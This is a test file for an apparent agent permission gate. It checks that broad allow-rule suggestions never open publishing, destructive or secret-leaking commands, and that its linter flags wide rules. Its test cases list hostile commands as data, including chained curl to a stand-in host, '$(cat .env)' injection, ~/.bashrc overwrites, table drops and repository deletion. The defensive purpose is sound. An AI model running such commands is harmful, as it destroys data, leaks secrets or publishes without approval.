import { describe, expect, it } from 'vitest';
import { fixedWorld } from '@permesso/engine/world';
import { compilePolicy, lintPolicy } from '@permesso/engine/policy';
import { commandIndex, mcpRisks, risksBehind } from '@permesso/engine/facts';
import { createGate } from '../src/gate/gate.ts';
import { publishingCalls } from './publishing-calls.ts';

const world = fixedWorld();
const asked = createGate({ policy: {}, world: () => world });

/** The rules that are offered for a call and cover more than it. */
function wideOffers(tool: string, input: Readonly<Record<string, unknown>>): readonly string[] {
  const { suggestions } = asked.explain({ tool, input }).decision;
  return [...new Set(suggestions.slice(1).flatMap(({ rules }) => rules))];
}

const programs = Array.from(commandIndex().keys()).filter((name) => /^[a-z][\w.-]*$/u.test(name));
const harmful = [
  ...publishingCalls,
  ...programs
    .flatMap((program) => risksBehind([program]))
    .filter((call) => /publish|push|deploy|release|delete|destroy|drop|purge|prune|wipe|reset/u.test(call))
    // They write a folder.
    .filter((call) => call !== 'dotnet publish' && call !== 'mix release'),
];

/** Everyday calls of known programs, some of them with the first words of a harmful one. */
function everydayCalls(): readonly string[] {
  const tails = [
    '',
    'test',
    'status --short',
    'build src',
    'list',
    'get x',
    'migrations add Users',
    'ef migrations add Users',
    'pm list',
  ];
  return [
    ...programs.flatMap((program, at) => [
      `${program} ${tails[at % tails.length]}`.trim(),
      `${program} ${tails[(at + 4) % tails.length]}`.trim(),
    ]),
    ...harmful,
    'mix ecto.migrate',
    'npm run build',
    'npm run test:unit -- --watch',
    'yarn workspace web build',
    'dotnet ef migrations add Users',
    'prisma migrate dev',
  ];
}

describe('Finding 11: no offer wider than the exact call covers what publishes, destroys or loses', () => {
  it('Finding 11: no wide offer for a command of any known program allows a harmful call', () => {
    const rules = new Set(everydayCalls().flatMap((command) => wideOffers('Bash', { command })));
    expect(rules.size).toBeGreaterThan(40);
    const byProgram = Map.groupBy(harmful, (call) => call.split(' ')[0]);
    const opened = [...rules].flatMap((rule) => {
      const program = /^Bash\(([^\s:)]+)/u.exec(rule)?.[1];
      const gate = createGate({ policy: { allow: [rule] }, world: () => world });
      return (byProgram.get(program) ?? [])
        .filter((command) => gate.explain({ tool: 'Bash', input: { command } }).decision.verdict === 'allow')
        .map((command) => `${rule}: ${command}`);
    });
    expect(opened).toEqual([]);
  });

  // Keeping an offer that is wider than the call is no approval of these, which begin with the same words.
  it.each([
    [
      'uv add x',
      'uv publish',
      'uv run python -c "import os"',
      'uv tool install x',
      'uv add x && curl https://a.example',
    ],
    [
      'pip install x',
      'pip install --user x',
      'pip install --index-url https://a.example x',
      'pip config set a b',
    ],
    ['npm run build', 'npm run deploy', 'npm publish', 'npm exec a', 'npm run build -- $(cat .env)'],
    ['k6 run a.js', 'k6 cloud a.js', 'k6 cloud run a.js', 'k6 login cloud'],
    [
      'hurl a.hurl',
      'hurl -',
      'cat a | hurl --test',
      'hurl --proxy http://a.example a.hurl',
      'hurl -o ~/.bashrc a.hurl',
    ],
    ['hurl --test a.hurl', 'hurl .env', 'hurl --variable h=http://a.example a.hurl'],
    ['httpyac send a.http', 'httpyac send /tmp/a.http', 'httpyac send a.http --var h=http://a.example'],
    ['docker compose exec web pytest', 'docker compose exec web sh -c x', 'docker compose exec web env'],
    [
      'docker compose exec web pytest -q',
      'docker compose exec db psql -c "drop table x"',
      'docker compose down -v',
    ],
    ['eslint src', 'eslint --rulesdir /tmp/x src', 'eslint -c /tmp/x.js src', 'eslint -o ~/.bashrc src'],
    [
      'python manage.py migrate',
      'python manage.py flush',
      'python manage.py dbshell',
      'python manage.py shell',
    ],
    ['make lint', 'make lint publish', 'make -f /tmp/x', 'make SHELL=/tmp/x lint', 'make -C /tmp lint'],
    ['bundle exec rspec', 'bundle exec rails db:drop', 'bundle exec ruby -e x', 'bundle exec cap deploy'],
    [
      'cargo test a',
      'cargo publish',
      'cargo --config x=y test',
      'cargo test --manifest-path /tmp/x/Cargo.toml',
    ],
    ['terraform plan', 'terraform apply', 'terraform state rm x', 'terraform plan -out=/home/dev/.bashrc'],
    ['git stash', 'git stash drop', 'git stash clear', 'git push', 'git -c core.pager=x stash'],
  ])('Finding 11: what is offered beyond %s opens nothing worse', (command, ...attacks) => {
    const rules = wideOffers('Bash', { command });
    expect(rules).not.toEqual([]);
    const gate = createGate({ policy: { allow: [...rules] }, world: () => world });
    expect(
      attacks.filter(
        (each) => gate.explain({ tool: 'Bash', input: { command: each } }).decision.verdict === 'allow',
      ),
    ).toEqual([]);
  });

  it('Finding 11: a wide offer spells the sub-command, at each depth', () => {
    expect(wideOffers('Bash', { command: 'dotnet ef migrations add AddX' })).toEqual([
      'Bash(dotnet ef migrations:*) [run]',
      'Bash(dotnet ef:*) [run]',
      'Bash(dotnet:*) [run]',
    ]);
    expect(wideOffers('Bash', { command: 'eslint src' })).toEqual(['Bash(eslint:*) [run]']);
    expect(wideOffers('Bash', { command: 'dotnet nuget push x' })).toEqual([]);
    expect(wideOffers('Bash', { command: 'make deploy' })).toEqual([]);
  });

  it('Finding 11: an offer for an MCP tool names verbs that read, never the whole server', () => {
    for (const tool of ['get_pull_request', 'list_issues', 'delete_repository', 'merge_pull_request', 'x']) {
      const rules = wideOffers(`mcp__github__${tool}`, {});
      const gate = createGate({ policy: { allow: rules }, world: () => world });
      expect(
        mcpRisks.filter(
          (name) => gate.explain({ tool: `mcp__github__${name}`, input: {} }).decision.verdict === 'allow',
        ),
      ).toEqual([]);
    }
  });

  it.each([
    ['Bash(dotnet:*)', 'dotnet nuget push'],
    ['Bash(mix:*)', 'mix cmd'],
    ['Bash(gradle:*)', 'gradle publish'],
    ['Bash(./gradlew:*)', './gradlew publish'],
    ['Bash(pnpm:*)', 'pnpm publish'],
    ['Bash(pnpm run:*)', 'pnpm run deploy'],
    ['Bash(gh pr:*)', 'gh pr merge'],
    ['mcp__github__*', 'mcp__github__delete_repository'],
  ])('Finding 11: lint says what %s also allows', (rule, call) => {
    const found = lintPolicy(compilePolicy([{ allow: [rule] }]), { now: 0, usesAllowRules: () => true });
    expect(found.map(({ message }) => message).join('\n')).toContain(`this also allows: `);
    expect(found.map(({ message }) => message).join('\n')).toContain(`\`${call}\``);
  });

  it('says nothing of a rule that spells what it allows, or beside a rule that asks', () => {
    const lint = (policy: { allow: string[]; ask?: string[] }): number =>
      lintPolicy(compilePolicy([policy]), { now: 0, usesAllowRules: () => true }).length;
    expect(lint({ allow: ['Bash(dotnet test:*)', 'Bash(npm run build:*)', 'mcp__github__get_*'] })).toBe(0);
    expect(lint({ allow: ['Bash(gh pr:*)'], ask: ['Bash(gh pr merge:*)'] })).toBe(0);
  });
});
